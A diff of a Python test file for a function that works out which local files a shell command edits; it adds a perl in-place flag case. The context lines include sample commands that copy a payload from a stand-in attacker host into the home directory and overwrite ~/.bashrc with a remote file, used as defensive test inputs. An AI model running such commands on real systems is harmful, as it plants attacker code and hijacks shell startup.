@@ -2254,6 +2254,7 @@ def test_the_files_a_writer_names_are_edit_constraints():
         "b",
     ]
     assert edits("perl -0777 -I lib -pi -e 1 f; perl -ne 1 g; perl x.pl -i y") == ["f"]
+    assert edits("perl -lpi -e 1 a; perl -0777pi -e 1 b") == ["a", "b"]  # digits, then letters
     # rsync's and scp's target, when it is on this machine.
     assert edits("rsync -a attacker:payload/ ~/") == ["~/", "~/\0"]
     assert edits("scp -P 2222 host:evil ~/.bashrc") == ["~/.bashrc"]
